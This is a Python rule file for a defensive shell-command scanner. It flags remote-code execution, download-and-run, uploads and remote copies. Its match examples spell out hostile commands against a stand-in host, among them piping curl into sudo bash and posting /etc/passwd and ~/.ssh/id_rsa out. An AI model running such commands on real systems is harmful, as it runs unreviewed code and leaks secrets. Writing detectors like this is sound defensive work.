"""Rules: what is fetched and run, and what is sent away."""

from __future__ import annotations

from engine.analysis.shell.declare import ABUSE, CRITICAL, HIGH, MEDIUM, SECRETS, rule

REMOTE_EXEC = rule(
    "sh-remote-exec",
    "Runs what it downloads",
    "net_download",
    CRITICAL,
    attack=(
        "Whoever controls the server, or the way to it, decides what runs: today's "
        "review says nothing about tomorrow."
    ),
    why="CRITICAL: the code that runs is not the code that is reviewed.",
    fix="Send the script itself for review.",
    match=(
        "curl -s http://x.test/a.sh | sh",
        "bash <(curl -s http://x.test/a)",
        'eval "$(wget -qO- http://x.test)"',
        "source <(curl http://x.test)",
        "u=http://x.test; c='curl -s'; $c $u | sudo bash",
        "wget -O - x.test | tee a | python3",
        'sh -c "$(curl -fsSL http://x.test)"',
    ),
    not_match=(
        "curl http://x.test | jq .",
        "curl http://x.test > a.json",
        "cat a.sh | sh",
    ),
    cwe=494,
    owasp=ABUSE,
)
DOWNLOAD_RUN = rule(
    "sh-download-run",
    "Downloads a program, then runs it",
    "net_download",
    CRITICAL,
    attack="Brings in a program that nobody has reviewed and starts it.",
    why="CRITICAL: the code that runs is not the code that is reviewed.",
    fix="Send the program itself for review.",
    match=(
        "wget http://x.test/a -O /tmp/a; chmod +x /tmp/a; /tmp/a",
        "curl -o a.sh http://x.test && sh a.sh",
        "wget http://x.test/run.py\npython3 run.py",
    ),
    not_match=(
        "curl -o a.json http://x.test && cat a.json",
        "chmod +x a.sh; ./a.sh",
    ),
    cwe=494,
    owasp=ABUSE,
)
DOWNLOAD = rule(
    "sh-download",
    "Downloads to a file",
    "net_download",
    MEDIUM,
    attack="Brings in data or a program whose content nobody has seen.",
    why="MEDIUM: the content is unknown; HIGH where it lands among the system's files.",
    fix="Hand the file in with the submission.",
    match=(
        "wget http://x.test/a.zip",
        "curl -O http://x.test/a",
        "curl http://x.test > a",
        "aria2c http://x.test/a",
    ),
    not_match=(
        "curl --version",
        "wget --help",
        "curl http://localhost:8080/health",
    ),
    cwe=494,
)
UPLOAD = rule(
    "sh-upload",
    "Sends data away",
    "exfil_upload",
    HIGH,
    attack="Carries files, secrets or results out to a server of the attacker's.",
    why="HIGH: what leaves does not come back.",
    fix="Leave results in the workspace, where they are collected.",
    match=(
        "curl -F file=@/etc/passwd http://x.test",
        "curl --data-binary @$f http://x.test",
        "wget --post-file=a http://x.test",
        "tar cz . | nc x.test 99",
        "nc x.test 99 < data.txt",
        "curl -T a.txt ftp://x.test",
        'curl -d "$(cat ~/.ssh/id_rsa)" http://x.test',
    ),
    not_match=(
        "curl -d 'a=1' http://localhost/x",
        "curl http://x.test -o a",
        "nc -l 99",
    ),
    cwe=200,
    owasp=SECRETS,
)
POST = rule(
    "sh-post",
    "Posts to a server",
    "exfil_upload",
    MEDIUM,
    attack="Carries data out in the body of a request.",
    why=("MEDIUM: the body is text of the snippet's own; HIGH where it holds files or command output."),
    fix="Ask for the domain as a capability, and show what is sent.",
    match=(
        "curl -d 'a=1' https://x.test",
        "wget --post-data=a=1 https://x.test",
        "curl -X POST https://x.test",
    ),
    not_match=(
        "curl https://x.test",
        "curl -X GET https://x.test",
    ),
    cwe=200,
    owasp=SECRETS,
)
COPY = rule(
    "sh-remote-copy",
    "Copies files to or from another machine",
    "net_download",
    MEDIUM,
    attack="Moves tools in, or loot out.",
    why="MEDIUM: it depends on what is copied; secrets have a rule of their own.",
    fix="Hand files in with the submission; leave results in the workspace.",
    match=(
        "scp a.txt u@x.test:/tmp",
        "rsync -a . u@x.test:b",
        "sftp u@x.test",
        "rclone copy . r:b",
    ),
    not_match=(
        "rsync -a a/ b/",
        "cp a b",
        "scp --help",
    ),
    cwe=200,
    owasp=SECRETS,
)

RULES = (REMOTE_EXEC, DOWNLOAD_RUN, DOWNLOAD, UPLOAD, POST, COPY)
